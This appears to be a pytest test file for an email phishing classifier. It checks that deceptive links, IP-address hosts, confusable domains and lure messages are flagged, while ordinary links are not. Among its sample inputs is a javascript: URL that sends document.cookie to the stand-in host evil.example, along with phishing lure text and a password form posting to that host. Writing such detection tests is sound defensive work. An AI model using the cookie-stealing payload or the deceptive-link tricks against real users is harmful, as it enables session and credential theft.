"""Where links lead, against what they say."""

from dataclasses import replace

import pytest

from services.classifier.domain.hosts import host_of, is_ip, registered, scheme
from tests.classifier.letters import OURS, codes, letter, verdict


def link(target: str, text: str = "here", **more) -> bytes:
    return letter(html=f'<p>Look <a href="{target}">{text}</a></p>', **more)


@pytest.mark.parametrize(
    ("target", "code"),
    [
        ("http://198.51.100.7/a", "link_to_ip"),
        ("http://3325256711/a", "link_to_ip"),
        ("http://0xc6336407/a", "link_to_ip"),
        ("https://[2001:db8::7]/a", "link_to_ip"),
        ("https://www.bank.example@evil.example/", "link_with_user"),
        ("http:\\\\www.bank.example@evil.example/", "link_with_user"),
        ("data:text/html;base64,PGI+", "active_link"),
        ("java\nscript:location='//evil.example/'+document.cookie", "active_link"),
        ("https://northwind.example.evil.example/", "own_domain_in_foreign_host"),
        ("https://fabrikam.example.evil.example/", "sender_domain_in_foreign_host"),
        ("https://xn--pypal-4ve.com/", "confusable_link"),
        ("https://bit.ly/abc", "link_shortened"),
        ("https://x1.web.app/abc", "link_to_free_host"),
        ("https://x1.top/abc", "link_to_cheap_suffix"),
        ("https://evil.example/#carla@northwind.example", "recipient_in_fragment"),
        ("https://evil.example/#carla%40northwind.example", "recipient_in_fragment"),
    ],
)
def test_a_link_is_seen_for_what_it_is(target, code):
    assert code in codes(link(target))


@pytest.mark.parametrize(
    "target",
    [
        "https://www.fabrikam.example/a",
        "https://portal.northwind.example/a",
        "http://192.168.1.1/admin",
        "http://127.0.0.1:8080/",
        "mailto:lena@fabrikam.example",
        "#top",
        "javascript:void(0)",
    ],
)
def test_an_ordinary_link_is_no_evidence(target):
    assert codes(link(target)) == set()


def test_an_accent_in_a_host_is_honest():
    assert codes(link("https://münchen.example/")) == {"all_links_elsewhere"}


@pytest.mark.parametrize(
    ("text", "target", "code"),
    [
        ("https://www.bank.example/login", "https://evil.example/", "link_text_differs"),
        ("www.bank.example", "http://198.51.100.7/", "link_text_hides_bare_host"),
        ("www.bank.example", "https://x1.pages.dev/", "link_text_hides_bare_host"),
    ],
)
def test_a_link_that_shows_another_host_deceives(text, target, code):
    assert code in codes(link(target, text))


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("https://www.bank.example/login", "https://login.bank.example/x"),
        ("bank.example", "https://track.mailer.example/c/1"),
        ("file.txt", "https://fabrikam.example/file.txt"),
        ("Version 2.0", "https://fabrikam.example/"),
    ],
)
def test_a_link_that_shows_its_own_host_or_none_does_not(text, target):
    assert not codes(link(target, text)) & {"link_text_differs", "link_text_hides_bare_host"}


def test_a_lure_with_a_deceptive_link_is_malicious():
    html = (
        "<p>Your account has been suspended. Please verify your account within 24 hours.</p>"
        '<a href="http://198.51.100.7/in">https://www.bank.example/</a>'
    )

    found = verdict(letter(html=html))

    assert found.disposition == "malicious"
    assert "lure_with_deceptive_link" in {reason.code for reason in found.reasons}


def test_the_same_lure_with_an_honest_link_is_not():
    html = (
        "<p>Your password expires. Please sign in to your account and change it.</p>"
        '<a href="https://id.fabrikam.example/">https://id.fabrikam.example/</a>'
    )

    assert verdict(letter(html=html)).disposition == "none"


def test_a_form_for_a_password_inside_the_text_is_suspicious_at_least():
    html = "<form action='https://evil.example/'><input type='PASSWORD' name=p></form>"

    assert verdict(letter(html=html)).disposition in {"suspicious", "malicious"}


def test_links_beyond_the_bound_of_the_tree_are_read_all_the_same():
    padding = "<p>" + "word " * 60_000 + "</p>"

    assert "link_to_ip" in codes(
        letter(html=padding + '<a href="http://198.51.100.7/">https://bank.example/</a>')
    )


def test_our_own_domain_is_a_tenants_matter():
    raw = link("https://northwind.example.evil.example/")

    assert "own_domain_in_foreign_host" not in codes(raw, replace(OURS, own_domains=()))


@pytest.mark.parametrize(
    ("target", "host"),
    [
        ("HTTP://WWW.Bank.Example:8080/a?b", "www.bank.example"),
        ("https://a%2eexample/", "a.example"),
        ("https://bücher.example/", "xn--bcher-kva.example"),
        ("//cdn.example/x", "cdn.example"),
        ("/relative", ""),
        ("https:", ""),
        ("http://\u200bbank.example/", "bank.example"),
    ],
)
def test_a_host_is_read_as_browsers_read_it(target, host):
    assert host_of(target) == host


def test_a_registration_ends_at_the_public_suffix():
    assert registered("a.b.co.uk") == "b.co.uk"
    assert registered("someone.web.app") == "someone.web.app"
    assert registered("localhost") == "localhost"


@pytest.mark.parametrize("host", ["", "a..b", "1.2.3.4.5", "x" * 300, "0x", "..", "-"])
def test_no_host_breaks_reading(host):
    assert isinstance(registered(host), str)
    assert isinstance(is_ip(host), bool)
    assert scheme(host + "://") is not None
